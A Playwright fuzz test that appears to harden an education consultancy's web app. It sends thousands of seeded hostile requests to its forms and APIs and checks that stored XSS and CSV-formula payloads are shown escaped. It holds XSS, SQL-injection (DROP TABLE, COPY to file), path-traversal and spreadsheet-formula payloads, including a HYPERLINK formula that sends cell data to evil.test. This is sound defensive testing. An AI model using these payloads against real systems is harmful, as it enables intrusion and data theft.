import type { APIRequestContext } from '@playwright/test'
import { expect, test } from './fixtures'
import { signInWithTwoFactor, TEST_PASSWORD, uniqueEmail } from './support'

/**
 * Hostile input for every form and API: at least 5,000 requests built by a seeded generator
 * (FUZZ_SEED reproduces a run; the failures list the request), sent a few at a time to the shared
 * test server. No answer may be a 5xx, and afterwards the staff inbox, lead pages and CSV export
 * must show every stored payload as text, never as markup or a spreadsheet formula.
 */

const SEED = Number(process.env.FUZZ_SEED ?? 20_260_601)
const REQUESTS = Number(process.env.FUZZ_REQUESTS ?? 5_200)
const CONCURRENCY = 6
const ADMIN = { email: 'admin@welsh.test', password: 'Counsel-Desk-2026!' }
/** Every script payload carries this, so its rendering can be found later. */
const MARK = `fz${SEED.toString(36)}`

/** mulberry32: small, fast and the same on every machine. */
function generator(seed: number) {
	let a = seed >>> 0
	const next = () => {
		a = (a + 0x6d2b79f5) >>> 0
		let t = a
		t = Math.imul(t ^ (t >>> 15), t | 1)
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
		return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
	}
	const int = (max: number) => Math.floor(next() * max)
	const pick = <T,>(items: readonly T[]): T => items[int(items.length)]!
	return { next, int, pick }
}
const rng = generator(SEED)

const scriptPayloads = [
	`<script>alert('${MARK}')</script>`,
	`"><img src=x onerror=alert('${MARK}')>`,
	`'><svg onload=alert('${MARK}')>`,
	`<iframe src="javascript:alert('${MARK}')"></iframe>`,
	`javascript:alert('${MARK}')`,
	`</textarea><script>alert('${MARK}')</script>`,
	`{{constructor.constructor('alert(1)')()}} ${MARK}`,
	`<a href="javascript:alert(1)">${MARK}</a>`,
	`\u003cscript\u003ealert('${MARK}')\u003c/script\u003e`,
]
const sqlPayloads = [
	"' OR '1'='1",
	"'; DROP TABLE leads; --",
	'" UNION SELECT id, email, password FROM account --',
	"1; SELECT pg_sleep(5); --",
	"admin'--",
	"%' AND 1=0 UNION SELECT NULL, version() --",
	"\\'; COPY leads TO '/tmp/x'; --",
]
const formulaPayloads = ['=HYPERLINK("http://evil.test?x="&A1,"click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1', ' =1+1', '\n=1+1']
const unicodePayloads = [
	'\u202Egnp.exe', // right-to-left override
	'مرحبا بالعالم', 'ਸਤਿ ਸ੍ਰੀ ਅਕਾਲ', '😀👩‍👩‍👧‍👦🇮🇳', 'Z̴̡̢̛̤͔͎̓̈́a̸l̵g̶o̷', '\u200B\u200C\u200D\uFEFF',
	'\uD800', '\uDFFF lone', // lone surrogates
	'nul\u0000byte', '\u0007\u0008\u001B[31mansi', 'line\r\nbreak\r\nX-Injected: 1', '\u2028\u2029',
	'İıſK', 'a'.repeat(10) + '\u0301'.repeat(200),
]
const oddValues = ['', ' ', '0', '-1', '1e309', 'NaN', 'null', 'undefined', 'true', '[]', '{}', '[object Object]', '../../etc/passwd', '%00', '%ZZ', '__proto__', 'constructor']

function hugeString() {
	const size = rng.pick([1_000, 5_000, 20_000, 65_000, 70_000, 200_000])
	return rng.pick(['a', '<', 'é', '😀', "'"]).repeat(size / 2).slice(0, size)
}

function hostileString(): string {
	const kind = rng.int(10)
	if (kind < 3) return rng.pick(scriptPayloads)
	if (kind < 5) return rng.pick(sqlPayloads)
	if (kind < 6) return rng.pick(formulaPayloads)
	if (kind < 8) return rng.pick(unicodePayloads)
	if (kind < 9) return rng.pick(oddValues)
	return rng.int(4) === 0 ? hugeString() : rng.pick(scriptPayloads) + rng.pick(unicodePayloads)
}

/** A value that is sometimes right, so requests get past validation and store their payload. */
type FieldValue = string | string[] | number | boolean | null | Record<string, unknown>
function value(good: () => string): FieldValue {
	const roll = rng.int(20)
	if (roll < 6) return good()
	if (roll < 7) return [hostileString(), good()]
	if (roll < 8) return rng.pick<FieldValue>([42, -1, 3.14, true, false, null, { $ne: null }, { toString: 'x' }])
	if (roll < 10) return `${good()}${hostileString()}`
	return hostileString()
}

const courses = ['ielts-academic', 'university-undergraduate', 'languages-french', 'other']
const goodEmail = () => `fuzz-${rng.int(1e9)}@example.com`
const goodMobile = () => `9${String(rng.int(1e9)).padStart(9, '0')}`

type Form = Record<string, FieldValue>
type Target = {
	name: string
	method: 'POST' | 'GET'
	path: () => string
	as: 'visitor' | 'student' | 'admin'
	fields?: () => Form
	/** A long poll may rightly hold the request open; it is left waiting after this long. */
	longPollMs?: number
}

let leadIds: string[] = []
const targets: Target[] = [
	{
		name: 'enquiry API',
		method: 'POST',
		path: () => rng.pick(['/api/enquiries', '/api/enquiries', '/api/enquiries?index', '/api/enquiries.data']),
		as: 'visitor',
		fields: () => ({
			name: value(() => `${rng.pick(scriptPayloads)} Harpreet`),
			course: value(() => rng.pick(courses)),
			email: value(goodEmail),
			mobile: value(goodMobile),
			tellus: value(() => rng.pick([...scriptPayloads, ...formulaPayloads, ...sqlPayloads])),
			sourcePage: value(() => '/'),
			idempotencyKey: value(() => `fuzz-${rng.int(1e12)}`),
		}),
	},
	{
		name: 'enquiry page',
		method: 'POST',
		path: () => rng.pick(['/enquire', '/enquire.data']),
		as: 'visitor',
		fields: () => ({ name: value(() => rng.pick(formulaPayloads)), course: value(() => rng.pick(courses)), email: value(goodEmail), mobile: value(goodMobile), tellus: value(hostileString) }),
	},
	{
		name: 'contact form',
		method: 'POST',
		path: () => rng.pick(['/contact', '/contact.data']),
		as: 'visitor',
		fields: () => ({ name: value(() => rng.pick(scriptPayloads)), email: value(goodEmail), subject: value(() => rng.pick(sqlPayloads)), message: value(() => rng.pick(scriptPayloads)), website: rng.int(30) === 0 ? 'bot' : '' }),
	},
	{ name: 'newsletter', method: 'POST', path: () => rng.pick(['/newsletter', '/newsletter.data']), as: 'visitor', fields: () => ({ email: value(goodEmail), sourcePage: value(() => '/') }) },
	{ name: 'login', method: 'POST', path: () => rng.pick(['/login', '/login.data', `/login?redirectTo=${safeEncode(hostileString().slice(0, 300))}`]), as: 'visitor', fields: () => ({ mode: value(() => 'dialog'), email: value(goodEmail), password: value(() => 'wrong-password'), redirectTo: value(() => '//evil.test') }) },
	{
		name: 'signup',
		method: 'POST',
		path: () => rng.pick(['/signup', '/signup.data']),
		as: 'visitor',
		// Mostly invalid: a valid sign-up runs the slow password hash.
		fields: () => ({ mode: 'dialog', name: value(() => rng.pick(scriptPayloads)), email: rng.int(8) === 0 ? goodEmail() : hostileString(), password: value(() => 'short'), dob: value(hostileString), mobile: value(goodMobile) }),
	},
	{ name: 'logout', method: 'POST', path: () => rng.pick(['/logout', '/logout.data']), as: 'visitor', fields: () => ({ mode: value(() => 'page') }) },
	{
		name: 'profile',
		method: 'POST',
		path: () => rng.pick(['/profile', '/profile.data']),
		as: 'student',
		fields: () => ({ name: value(() => `${rng.pick(scriptPayloads)}`), email: value(goodEmail), mobile: value(goodMobile), dob: value(() => '2001-02-03') }),
	},
	{ name: 'enrolments API', method: 'POST', path: () => '/api/enrolments', as: 'student', fields: () => ({ courseId: value(() => rng.pick(['ielts-academic', 'no-such-course'])), sourcePage: value(hostileString) }) },
	{
		name: 'lead actions',
		method: 'POST',
		path: () => `/admin/leads/${rng.int(5) === 0 ? safeEncode(hostileString().slice(0, 200)) : rng.pick(leadIds)}${rng.int(4) === 0 ? '.data' : ''}`,
		as: 'admin',
		fields: () => ({
			intent: value(() => rng.pick(['status', 'assign', 'note'])),
			status: value(() => rng.pick(['new', 'contacted', 'closed'])),
			closedReason: value(hostileString),
			assigneeId: value(hostileString),
			body: value(() => rng.pick(scriptPayloads)),
		}),
	},
	{ name: 'leads CSV', method: 'GET', path: () => `/admin/leads.csv?${query({ q: hostileString(), type: hostileString(), status: hostileString(), page: hostileString() })}`, as: 'admin' },
	{ name: 'inbox search', method: 'GET', path: () => `/admin${rng.pick(['', '.data'])}?${query({ q: hostileString(), type: rng.pick(['enquiry', hostileString()]), page: rng.pick(['2', '-5', '1e99', hostileString()]) })}`, as: 'admin' },
	{ name: 'live updates', method: 'GET', path: () => `/admin/leads/updates?${query({ since: hostileString(), q: hostileString() })}`, as: 'admin', longPollMs: 1_500 },
	{ name: 'courses filter', method: 'GET', path: () => `/courses${rng.pick(['', '.data'])}?${query({ category: hostileString() })}`, as: 'student' },
	{ name: 'country guide', method: 'GET', path: () => `/${rng.pick(['country', 'destinations'])}/${safeEncode(hostileString().slice(0, 2_000))}${rng.pick(['', '.data', '?tab=' + safeEncode(hostileString().slice(0, 500))])}`, as: 'visitor' },
	{ name: 'course detail', method: 'GET', path: () => `/course/${safeEncode(hostileString().slice(0, 2_000))}${rng.pick(['', '.data'])}`, as: 'visitor' },
	{ name: 'journal post', method: 'GET', path: () => `/journal/${safeEncode(hostileString().slice(0, 2_000))}`, as: 'visitor' },
	{ name: 'raw paths', method: 'GET', path: () => rng.pick(['/%', '/%E0%A4%A', '/%ED%A0%80', '/..%2f..%2fetc%2fpasswd', '/assets/%00', '/a'.repeat(2_000), '/?' + 'x='.repeat(3_000), '/admin/leads/%FF']), as: 'visitor' },
]

function query(params: Record<string, string>) {
	// Percent-encoding of lone surrogates throws in JS; send them as raw invalid UTF-8 bytes instead.
	return Object.entries(params)
		.map(([k, v]) => `${k}=${safeEncode(v.slice(0, 3_000))}`)
		.join('&')
}
function safeEncode(text: string): string {
	try {
		return encodeURIComponent(text)
	} catch {
		return text.replace(/[\uD800-\uDFFF]/g, '%ED%A0%80').replace(/[^\w%-]/g, (c) => safeEncode(c))
	}
}

type Body = { headers: Record<string, string>; data?: Buffer | string; multipart?: Record<string, string> }

/** The same fields sent in one of many ways, some of them broken. */
function encode(fields: Form): Body {
	const flat = Object.entries(fields).flatMap(([k, v]) => (Array.isArray(v) ? v.map((x) => [k, x] as const) : [[k, v] as const]))
	const asText = (v: unknown) => (typeof v === 'string' ? v : JSON.stringify(v) ?? '')
	const kind = rng.int(12)
	if (kind < 5) return { headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, data: flat.map(([k, v]) => `${safeEncode(k)}=${safeEncode(asText(v))}`).join('&') }
	if (kind < 7) return { headers: {}, multipart: Object.fromEntries(flat.map(([k, v]) => [k, asText(v).replace(/[\uD800-\uDFFF]/g, '?')])) }
	if (kind < 8) return { headers: { 'Content-Type': 'application/json' }, data: JSON.stringify(fields) }
	if (kind < 9) return { headers: { 'Content-Type': 'multipart/form-data; boundary=nothere' }, data: 'garbage without the boundary' }
	if (kind < 10) return { headers: { 'Content-Type': rng.pick(['text/plain', 'application/xml', 'application/octet-stream', 'multipart/form-data', 'image/png', '', 'x/x; charset=utf-99']) }, data: Buffer.from(Array.from({ length: rng.int(3_000) }, () => rng.int(256))) }
	if (kind < 11) return { headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, data: rng.pick(['%', '%%%', 'a=%E0%A4%A', 'a=%ED%A0%80&b=%FF%FE', '&&&==&', 'name', '=', 'a[b][c]=1&a[b]=2', 'x'.repeat(70_000)]) }
	return { headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, data: `${flat.map(([k, v]) => `${k}=${safeEncode(asText(v))}`).join('&')}&extra=${'y'.repeat(rng.int(80_000))}` }
}

type Failure = { target: string; method: string; path: string; status: number; body: string; sent: string }

// Its time is mostly the server answering 5,200 requests one after another: on a busy two-core
// machine that has taken 4 minutes, so the limit leaves room for that.
test('5,000+ malformed and hostile requests to every form and API: no 5xx, no stored script', async ({ playwright, page, baseURL }) => {
	test.setTimeout(480_000)
	const contexts: Record<Target['as'], APIRequestContext> = {
		visitor: await playwright.request.newContext({ baseURL }),
		student: await playwright.request.newContext({ baseURL }),
		admin: await playwright.request.newContext({ baseURL }),
	}
	const signup = await contexts.student.post('/signup', { form: { mode: 'dialog', name: 'Fuzz Student', email: uniqueEmail('fuzz'), password: TEST_PASSWORD } })
	expect(signup.ok(), await signup.text()).toBe(true)
	await signInWithTwoFactor({ request: contexts.admin }, ADMIN)
	// A real lead, so lead actions reach the database as well as the validation.
	const seed = await contexts.visitor.post('/api/enquiries', { form: { name: 'Fuzz Seed', course: 'other', email: goodEmail(), mobile: goodMobile() } })
	leadIds = [((await seed.json()) as { id: string }).id]

	const started = Date.now()
	const failures: Failure[] = []
	const statuses = new Map<number, number>()
	const timings = new Map<string, number>()
	let sent = 0
	const jobs = Array.from({ length: REQUESTS }, (_, i) => i)
	async function worker() {
		for (let job = jobs.shift(); job !== undefined; job = jobs.shift()) {
			const target = targets[job % targets.length]!
			const path = target.path()
			const body = target.fields ? encode(target.fields()) : undefined
			const headers = { ...body?.headers }
			// Some requests come with a forged or broken Origin, as a cross-site form post would.
			if (rng.int(15) === 0) headers.Origin = rng.pick(['https://evil.test', 'null', 'not a url', 'http://localhost:1'])
			let status = 0
			let text = ''
			const t0 = Date.now()
			try {
				const res = await contexts[target.as].fetch(path, { method: target.method, headers, data: body?.data, multipart: body?.multipart, maxRedirects: 0, failOnStatusCode: false, timeout: target.longPollMs ?? 30_000 })
				status = res.status()
				if (status >= 500) text = (await res.text()).slice(0, 300)
				else await res.body()
			} catch (error) {
				text = String(error).slice(0, 300)
				if (target.longPollMs && /Timeout/i.test(text)) status = 1
			}
			timings.set(target.name, (timings.get(target.name) ?? 0) + Date.now() - t0)
			sent++
			statuses.set(status, (statuses.get(status) ?? 0) + 1)
			if (status >= 500 || status === 0) {
				failures.push({ target: target.name, method: target.method, path: path.slice(0, 200), status, body: text, sent: JSON.stringify(body?.data ?? body?.multipart ?? '').slice(0, 300) })
			}
		}
	}
	await Promise.all(Array.from({ length: CONCURRENCY }, worker))
	const seconds = (Date.now() - started) / 1000
	test.info().annotations.push({ type: 'fuzz', description: `${sent} requests in ${seconds.toFixed(1)} s, seed ${SEED}; statuses ${JSON.stringify(Object.fromEntries(statuses))}` })
	console.log(`fuzz: ${sent} requests in ${seconds.toFixed(1)} s (seed ${SEED}); statuses ${JSON.stringify(Object.fromEntries([...statuses].sort()))}`)
	console.log(`fuzz: time per target (ms): ${JSON.stringify(Object.fromEntries(timings))}`)
	expect(sent).toBeGreaterThanOrEqual(5_000)
	expect(failures, `requests answered with a 5xx or no answer (seed ${SEED})`).toEqual([])

	// Stored payloads: the staff see them as text, never as markup.
	const rawMarkup = [/<script[^>]*>alert\(/i, /<img[^>]+onerror=/i, /<svg[^>]+onload=/i, /<iframe[^>]+javascript:/i, /href="javascript:/i]
	const expectOnlyEscaped = (html: string, where: string) => {
		for (const pattern of rawMarkup) expect(html, `${where} holds raw ${pattern}`).not.toMatch(pattern)
	}
	const inbox = await contexts.admin.get(`/admin?q=${MARK}`)
	expect(inbox.status()).toBe(200)
	const inboxHtml = await inbox.text()
	expectOnlyEscaped(inboxHtml, 'the inbox')
	expect(inboxHtml, 'the payloads were stored and are shown escaped').toContain(`&lt;script&gt;alert(&#x27;${MARK}&#x27;)&lt;/script&gt;`)

	const csv = await (await contexts.admin.get(`/admin/leads.csv?q=${MARK}`)).text()
	const rows = parseCsv(csv.replace(/^\uFEFF/, ''))
	expect(rows.length, 'the export lists the stored payloads').toBeGreaterThan(10)
	for (const row of rows.slice(1)) for (const cell of row) expect(cell, `CSV cell ${JSON.stringify(cell.slice(0, 80))} could run as a formula`).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/)
	// The whole export: formula payloads were stored, and every one is neutralised by a quote.
	const everything = parseCsv((await (await contexts.admin.get('/admin/leads.csv')).text()).replace(/^\uFEFF/, ''))
	const cells = everything.slice(1).flat()
	for (const cell of cells) expect(cell, `CSV cell ${JSON.stringify(cell.slice(0, 80))} could run as a formula`).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/)
	expect(cells.filter((cell) => /^'[=+\-@\t\r]/.test(cell)).length, 'formula payloads were stored (neutralised)').toBeGreaterThan(0)

	// Lead pages of stored payloads, over HTTP and in the browser (where a script would run).
	const ids = [...new Set(rows.slice(1).map((r) => r.at(-1)!).filter((id) => /^[0-9a-f-]{36}$/.test(id)))].slice(0, 15)
	expect(ids.length).toBeGreaterThan(0)
	for (const id of ids) {
		const res = await contexts.admin.get(`/admin/leads/${id}`)
		expect(res.status()).toBe(200)
		expectOnlyEscaped(await res.text(), `/admin/leads/${id}`)
	}
	const dialogs: string[] = []
	page.on('dialog', (d) => {
		dialogs.push(d.message())
		void d.dismiss()
	})
	await page.context().addCookies((await contexts.admin.storageState()).cookies)
	await page.goto(`/admin?q=${MARK}`)
	await expect(page.getByRole('heading', { name: 'Leads inbox', level: 1 })).toBeVisible()
	await expect(page.getByText(`<script>alert('${MARK}')</script>`).first()).toBeVisible()
	await page.goto(`/admin/leads/${ids[0]}`)
	await expect(page.getByText(MARK).first()).toBeVisible()
	expect(dialogs, 'no stored script ran').toEqual([])
	for (const context of Object.values(contexts)) await context.dispose()
})

/** RFC 4180: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string) {
	const rows: string[][] = []
	let row: string[] = []
	let cell = ''
	let quoted = false
	const endCell = () => {
		row.push(cell)
		cell = ''
	}
	for (let i = 0; i < text.length; i++) {
		const c = text[i]!
		if (quoted) {
			if (c === '"' && text[i + 1] === '"') {
				cell += '"'
				i++
			} else if (c === '"') quoted = false
			else cell += c
		} else if (c === '"') quoted = true
		else if (c === ',') endCell()
		else if (c === '\r' && text[i + 1] === '\n') {
			endCell()
			rows.push(row)
			row = []
			i++
		} else cell += c
	}
	if (cell || row.length) {
		endCell()
		rows.push(row)
	}
	return rows
}
